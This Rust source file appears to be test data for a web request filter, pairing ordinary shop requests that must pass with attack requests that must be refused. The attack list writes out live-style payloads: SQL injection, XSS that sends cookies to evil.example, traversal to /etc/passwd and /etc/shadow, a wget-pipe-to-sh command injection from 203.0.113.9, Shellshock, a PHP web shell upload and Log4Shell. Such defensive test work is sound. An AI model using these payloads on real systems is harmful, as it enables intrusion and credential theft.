//! Requests of real life, and one or more of each class of attacks.

type Named = (&'static str, Vec<u8>);

const BROWSER: &str = "Host: shop.example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n\
    Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: de,en-US;q=0.7,en;q=0.3\r\n\
    Accept-Encoding: gzip, deflate, br\r\nReferer: https://shop.example.org/catalogue?page=2\r\nCookie: session=6f1c9a7be2; theme=dark; \
    consent=%7B%22analytics%22%3Afalse%7D\r\nSec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\nConnection: keep-alive\r\n";

fn get(target: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\n{BROWSER}\r\n").into_bytes()
}

fn with_header(line: &str) -> Vec<u8> {
    format!("GET /catalogue HTTP/1.1\r\n{BROWSER}{line}\r\n\r\n").into_bytes()
}

fn post(target: &str, media: &str, body: &[u8]) -> Vec<u8> {
    let mut message = format!(
        "POST {target} HTTP/1.1\r\n{BROWSER}Content-Type: {media}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    message.extend_from_slice(body);
    message
}

fn form(fields: &[(&str, &str)]) -> Vec<u8> {
    let body: Vec<String> = fields
        .iter()
        .map(|(name, value)| format!("{name}={}", escaped(value)))
        .collect();
    post(
        "/account",
        "application/x-www-form-urlencoded",
        body.join("&").as_bytes(),
    )
}

fn json(body: &str) -> Vec<u8> {
    post("/api/v1/things", "application/json", body.as_bytes())
}

fn query(name: &str, value: &str) -> Vec<u8> {
    get(&format!("/search?{name}={}", escaped(value)))
}

fn upload(file: &str, media: &str, content: &[u8]) -> Vec<u8> {
    const LINE: &str = "----WebKitFormBoundaryx7Fq2LkPz0aYc1Dm";
    let mut body = format!(
        "--{LINE}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday in Norway\r\n--{LINE}\r\n\
         Content-Disposition: form-data; name=\"picture\"; filename=\"{file}\"\r\nContent-Type: {media}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(content);
    body.extend_from_slice(format!("\r\n--{LINE}--\r\n").as_bytes());
    post("/upload", &format!("multipart/form-data; boundary={LINE}"), &body)
}

fn escaped(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(byte).to_string(),
            b' ' => "+".to_owned(),
            _ => format!("%{byte:02X}"),
        })
        .collect()
}

/// What must pass.
pub(crate) fn ordinary() -> Vec<Named> {
    vec![
        ("the home page", get("/")),
        ("a picture", get("/static/img/logo.5f3a9c.png?v=12")),
        (
            "a list",
            get("/catalogue?page=3&sort=price&order=asc&filter%5Bcolour%5D=blue&size=M&size=L"),
        ),
        ("a search", query("q", "red shoes size 42 for women")),
        (
            "a search in German",
            query("q", "Straßenschuhe für große Füße, größer als 45"),
        ),
        ("a search in French", query("q", "l'été à la plage, c'est génial")),
        ("a search in Japanese", query("q", "ワンピース 第１巻 新品")),
        ("a search in Arabic", query("q", "أفضل هاتف محمول")),
        ("a search in Russian", query("q", "красные туфли 38")),
        ("a search in Chinese", query("q", "人工智能入门教程")),
        ("an emoji", query("q", "birthday cake 🎂 delivery")),
        (
            "a name with an apostrophe",
            form(&[("first", "Sinéad"), ("last", "O'Connor"), ("city", "Dublin")]),
        ),
        (
            "an address",
            form(&[
                ("street", "Unter den Linden 77, 2. OG"),
                ("city", "10117 Berlin"),
                ("phone", "+49 30 22610"),
                ("email", "anna.schmidt@example.org"),
                ("comment", "Please ring twice & leave it at the door."),
            ]),
        ),
        (
            "a log-in",
            form(&[
                ("user", "maria"),
                ("password", "correct horse battery staple 7!"),
                ("remember", "on"),
            ]),
        ),
        (
            "a letter in English",
            form(&[(
                "message",
                "Dear team,\r\n\r\nI ordered two lamps last week (order 48213) and only one of them has \
            arrived. Could you check where the other one is? I would also like to change the address of the next order.\r\n\r\nKind \
            regards,\r\nTom",
            )]),
        ),
        (
            "a letter in German",
            form(&[(
                "message",
                "Sehr geehrte Damen und Herren,\r\n\r\nleider ist die Lampe (Bestellung 48213) beschädigt \
            angekommen. Könnten Sie mir bitte mitteilen, wie ich sie zurückschicken kann? Ich wünsche Ihnen ein schönes \
            Wochenende.\r\n\r\nMit freundlichen Grüßen\r\nJürgen Weiß",
            )]),
        ),
        (
            "a letter in Spanish",
            form(&[(
                "message",
                "¡Hola! ¿Cuándo llega mi pedido? Lo pedí el 3 de mayo y todavía no ha llegado. \
            Muchas gracias por su ayuda.",
            )]),
        ),
        (
            "a letter in Polish",
            form(&[(
                "message",
                "Dzień dobry, chciałbym zapytać o dostępność książki „Lalka”. Z góry dziękuję!",
            )]),
        ),
        (
            "a letter in Turkish",
            form(&[("message", "Merhaba, siparişim ne zaman gelir? Teşekkür ederim.")]),
        ),
        (
            "a letter in Hindi",
            form(&[("message", "नमस्ते, मेरा ऑर्डर कब आएगा? धन्यवाद।")]),
        ),
        (
            "a review",
            form(&[
                ("stars", "4"),
                (
                    "text",
                    "Good value for 25 €. The colour is nicer than in the picture; my son loves it. \
            Delivery took 3-4 days, which is fine.",
                ),
            ]),
        ),
        (
            "a number with a decimal comma",
            form(&[("amount", "1.234,56"), ("currency", "EUR"), ("date", "2026-05-03")]),
        ),
        (
            "an identifier",
            get("/orders/550e8400-e29b-41d4-a716-446655440000/items?expand=product,price&limit=50"),
        ),
        (
            "a token",
            get("/confirm?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg&lang=en"),
        ),
        (
            "a campaign",
            get("/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale&gclid=Cj0KCQjw5cOwBhCiARIsAJ5njuZ"),
        ),
        (
            "an object",
            json(
                r#"{"id": 17, "name": "Lamp", "price": 49.9, "tags": ["light", "home"], "stock": {"berlin": 3, "paris": 0}, "sold": false, "note": null}"#,
            ),
        ),
        (
            "a list of objects",
            json(r#"[{"sku": "A-1", "quantity": 2}, {"sku": "B-77", "quantity": 1}]"#),
        ),
        (
            "prose in an object",
            json(
                r#"{"title": "Ein schöner Tag", "body": "Wir waren am See. Das Wasser war kalt, aber klar!", "lang": "de"}"#,
            ),
        ),
        (
            "a question to an API",
            json(
                r#"{"jsonrpc": "2.0", "method": "orders.list", "params": {"first": 10, "after": "b2Zmc2V0OjEw"}, "id": 3}"#,
            ),
        ),
        (
            "a photograph",
            upload(
                "IMG_2041.jpg",
                "image/jpeg",
                b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9",
            ),
        ),
        (
            "a table",
            upload(
                "Preise 2026.csv",
                "text/csv",
                b"article;price\nlamp;49.90\nchair;120.00\n",
            ),
        ),
        (
            "a document",
            upload(
                "Lebenslauf.pdf",
                "application/pdf",
                b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n",
            ),
        ),
        ("a range", with_header("Range: bytes=0-1023")),
        (
            "a condition",
            with_header("If-None-Match: \"33a64df551425fcc55e4d42a148795d9f25f89d4\""),
        ),
        ("a request of a script", with_header("X-Requested-With: XMLHttpRequest")),
        ("a bearer", with_header("Authorization: Bearer 2YotnFZFEjr1zCsicMWpAA")),
        (
            "a HEAD",
            b"HEAD /static/app.js HTTP/1.1\r\nHost: shop.example.org\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"
                .to_vec(),
        ),
    ]
}

/// What must be refused: class by class, in the places where attacks come.
pub(crate) fn attacks() -> Vec<Named> {
    vec![
        ("SQL: union", query("id", "-1 UNION SELECT username, password FROM users")),
        ("SQL: tautology", form(&[("user", "admin' OR '1'='1' -- "), ("password", "x")])),
        ("SQL: time", query("id", "1; SELECT pg_sleep(10)--")),
        ("SQL: in JSON", json(r#"{"id": "1 UNION ALL SELECT NULL,version(),current_user() -- "}"#)),
        ("SQL: in a cookie", with_header("Cookie: track=1' AND SLEEP(5) AND 'a'='a")),
        ("XSS: a script", query("q", "<script>alert(document.cookie)</script>")),
        ("XSS: a handler", form(&[("name", "<img src=x onerror=alert(1)>")])),
        ("XSS: a URL", query("next", "javascript:alert(document.domain)")),
        ("XSS: in JSON", json(r#"{"name": "<svg/onload=fetch('//evil.example/'+document.cookie)>"}"#)),
        ("files: climbing", query("file", "../../../../etc/passwd")),
        ("files: climbing, encoded", get("/download?file=..%2f..%2f..%2f..%2fetc%2fshadow")),
        ("files: of the server", get("/.git/config")),
        ("files: remote", query("page", "http://203.0.113.9/shell.php?")),
        ("shell: a command", query("host", "127.0.0.1; cat /etc/passwd")),
        ("shell: substitution", form(&[("host", "$(wget http://203.0.113.9/x.sh -O- | sh)")])),
        ("shell: Shellshock", with_header("X-Test: () { :; }; /bin/bash -c 'id'")),
        ("PHP: code", query("c", "<?php system($_GET['x']); ?>")),
        ("PHP: a stream", query("file", "php://filter/convert.base64-encode/resource=index.php")),
        ("PHP: an upload", upload("shell.php", "application/octet-stream", b"<?php passthru($_GET['c']); ?>")),
        ("Java: Log4Shell", with_header("X-Api-Version: ${jndi:ldap://203.0.113.9/a}")),
        ("Java: a runtime", query("class", "java.lang.Runtime.getRuntime().exec('id')")),
        ("Node: a process", json(r#"{"x": "require('child_process').exec('id')"}"#)),
        ("session fixation", query("x", "<meta http-equiv=\"Set-Cookie\" content=\"session=1\">")),
        ("a split response", get("/?lang=en%0d%0aSet-Cookie:%20admin=1%0d%0a%0d%0a<html>")),
        ("a scanner", b"GET / HTTP/1.1\r\nHost: shop.example.org\r\nUser-Agent: sqlmap/1.7 (https://sqlmap.org)\r\nAccept: */*\r\n\r\n".to_vec()),
    ]
}
